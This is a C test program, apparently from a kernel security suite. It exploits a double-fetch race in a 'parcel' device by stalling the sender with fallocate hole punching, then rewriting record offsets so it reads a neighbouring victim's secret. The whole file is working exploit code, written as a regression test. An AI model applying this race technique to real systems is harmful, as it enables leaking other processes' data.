// SPDX-License-Identifier: GPL-2.0-only
/*
 * The index of a parcel is fetched twice: to be checked, and to be kept. Between the two its
 * records are changed, and point outside the parcel.
 *
 * What makes it certain: the last record lies in a page of a file in memory. While a hole is
 * punched there, whoever touches the page sleeps until that is done, here the sender, who has seen
 * the records before it. Any user can do this; userfaultfd, for who may use it, is a shorter way.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdbool.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attack.h"

#define SIZE		64		/* bytes of a parcel: its neighbours have the same size */
#define RECORDS		16		/* all but the last are changed */
#define NEIGHBOURS	4		/* parcels of the victim in each try */
#define HOLE		(32l << 20)	/* so large that punching it takes a while */
#define TRIES		40
#define ENOUGH		6		/* times that the change came in time */

static int file, hole, go[2];
static __u32 box;
static volatile pid_t sender;
static volatile bool sent;
static volatile struct parcel_record *records;

static void *punch(void *argument)
{
	cpu_set_t other;

	CPU_ZERO(&other);
	CPU_SET(1, &other);
	sched_setaffinity(0, sizeof(other), &other);
	if (write(go[1], "", 1) != 1 ||
	    fallocate(hole, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, HOLE))
		could_not("fallocate: %s", error_name(errno));
	return argument;
}

static void *send_index(void *result)
{
	static const char mine[SIZE] = "mine";
	char byte;

	sender = gettid();
	if (read(go[0], &byte, 1) != 1)
		could_not("read: %s", error_name(errno));
	*(long *)result = parcel_send(file, box, mine, SIZE, (const void *)records, RECORDS);
	sent = true;
	return NULL;
}

/* Does the sender sleep, and not for a signal? */
static bool sender_waits(void)
{
	char path[64], text[256], *state;
	FILE *proc;

	snprintf(path, sizeof(path), "/proc/self/task/%d/stat", sender);
	proc = fopen(path, "r");
	if (!proc)
		return false;
	text[fread(text, 1, sizeof(text) - 1, proc)] = 0;
	fclose(proc);
	state = strrchr(text, ')');
	return state && !strncmp(state, ") D", 3);
}

/* Were the records changed while the sender waited for the last one? */
static bool send_and_change(void)
{
	pthread_t sending, punching;
	bool changed = false;
	long result;
	int i;

	for (i = 0; i < RECORDS - 1; i++) {
		records[i].offset = 0;
		records[i].length = SIZE;
	}
	sender = 0;
	sent = false;
	if (pthread_create(&sending, NULL, send_index, &result))
		could_not("cannot make a thread");
	while (!sender)
		sched_yield();
	if (pthread_create(&punching, NULL, punch, NULL))
		could_not("cannot make a thread");
	while (!sent && !changed) {
		changed = sender_waits();
		for (i = 0; changed && i < RECORDS - 1; i++)
			records[i].offset = SIZE * (i + 1);
	}
	pthread_join(punching, NULL);
	pthread_join(sending, NULL);
	must("send", result);
	return changed;
}

static long send_secret(struct victim_state *state, int command)
{
	int i, result = 0;

	(void)command;
	for (i = 0; i < NEIGHBOURS && !result; i++)
		result = parcel_send(state->file, state->box, state->secret, SIZE, NULL, 0);
	return result;
}

/* The last record is in the page where the hole will be, and nobody has touched it yet. */
static void place_records(char *memory, long page)
{
	if (fallocate(hole, 0, 0, HOLE) ||
	    mmap(memory + page, page, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, hole,
		 HOLE - page) == MAP_FAILED)
		could_not("place the records: %s", error_name(errno));
	records = (struct parcel_record *)(memory + page) - (RECORDS - 1);
}

int main(int argc, char **argv)
{
	const long page = sysconf(_SC_PAGESIZE);
	char bytes[SIZE], secret[SECRET_SIZE];
	bool changed, outside = false;
	int i, j, in_time = 0;
	struct victim victim;
	char *memory;
	__u32 parcel;

	attack_begin(argc, argv);
	victim_start(&victim, send_secret);
	victim_secret(&victim, secret);
	file = device_open();
	box = private_box(file);
	hole = memfd_create("hole", MFD_CLOEXEC);
	memory = mmap(NULL, 2 * page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (hole < 0 || memory == MAP_FAILED || pipe(go))
		could_not("prepare: %s", error_name(errno));

	for (i = 0; i < TRIES && in_time < ENOUGH; i++) {
		must("let the victim send", victim_do(&victim, 0));
		place_records(memory, page);
		changed = send_and_change();
		in_time += changed;
		parcel = parcel_take(file, box);
		for (j = 0; j < RECORDS - 1 && changed; j++) {
			must("read a record", parcel_read_record(file, parcel, j, bytes, SIZE));
			outside |= strcmp(bytes, "mine") != 0;
			if (!memcmp(bytes, secret, SIZE))
				achieved("leaks", "another's parcel, %d bytes after mine: \"%s\"",
					 SIZE * (j + 1), bytes);
		}
		must("close", handle_close(file, parcel));
	}
	if (outside)
		achieved("leaks", "read outside my parcel, nobody's parcel there");
	if (!in_time)
		could_not("the change never came in time");
	refused("what was checked is what is kept, %d times", in_time);
}
